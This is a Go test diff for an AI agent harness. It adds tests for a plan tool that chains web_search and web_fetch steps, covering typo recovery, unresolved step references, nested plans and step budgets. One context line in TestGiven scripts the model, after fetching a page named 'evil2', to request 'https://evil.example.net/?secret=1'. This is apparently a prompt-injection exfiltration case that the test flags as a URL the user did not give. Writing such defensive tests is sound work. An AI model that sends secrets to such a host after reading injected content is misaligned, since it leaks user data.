@@ -296,6 +296,9 @@ func TestRecovers(t *testing.T) {
 		"no JSON":              {0, calls("web_fetch", `{"url":`), []string{"InvalidInput: ", "JSON object"}, nil},
 		"an unknown tool":      {0, calls("web_fetsh", `{}`), []string{`tool "web_fetsh" is unknown`, `did you mean "web_fetch"?`}, nil},
 		"a tool not offered":   {0, calls("erase", `{}`), []string{`tool "erase" is unknown`}, nil},
+		"a plan":               {0, calls("run_plan", `{"steps":[{"id":"a","tool":"web_serch","args":{}},{"id":"b","tool":"web_fetch","args":{"url":"${c.url}"}}]}`), []string{`did you mean "web_search"?`, `refers to step "c", which is unknown`}, nil},
+		"a plan in a plan":     {0, calls("run_plan", `{"steps":[{"id":"a","tool":"run_plan","args":{"steps":[]}}]}`), []string{`"run_plan" is unknown`}, nil},
+		"a plan that fails":    {0, calls("run_plan", `{"steps":[{"id":"a","tool":"web_search","args":{"query":"x"}},{"id":"b","tool":"web_fetch","args":{"url":"${a.results[4].url}"}}]}`), []string{"Step a, web_search:", "NoContent: step b: ", "has 1 elements"}, []string{"search x"}},
 		"nothing at all":       {0, says(""), nil, nil},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -547,6 +550,25 @@ func TestGiven(t *testing.T) {
 	_, _, err := try(t, w, Request{}, "What is on (https://example.com/evil2)?", calls("web_fetch", `{"url":"https://example.com/evil2"}`, "web_fetch", `{"url":"https://evil.example.net/?secret=1"}`), says("A call."))
 	if err != nil || !slices.Equal(w.given, []bool{true, false}) {
 		t.Errorf("%v, %v", w.given, err)
+	}
+}
+
+// TestPlan: a plan is run step by step, and each of its steps counts.
+func TestPlan(t *testing.T) {
+	w := newWorld(t)
+	plan := `{"steps":[{"id":"s1","tool":"web_search","args":{"query":"Ar-Men"}},{"id":"s2","tool":"web_fetch","args":{"url":"${s1.results[0].url}"}}]}`
+	a, s, err := try(t, w, Request{}, "When was Ar-Men lit?", calls("run_plan", plan), says("In 1881 [1]."))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Equal(w.log, []string{"search Ar-Men", "fetch https://example.com/armen"}) || a.Usage.Steps != 2 || len(a.Citations) != 1 {
+		t.Errorf("%q, %+v", w.log, a)
+	}
+	if got := lastResults(s.seen[1]); !strings.Contains(got, "Step s2, web_fetch:\n# Ar-Men") {
+		t.Errorf("%s", got)
+	}
+	if a, _, err = try(t, newWorld(t), Request{Budget: result.Budget{Calls: 1}}, "When?", calls("run_plan", plan), says("No.")); err != nil || a.Stopped != result.StoppedBySteps {
+		t.Errorf("%+v %v", a, err)
 	}
 }
 
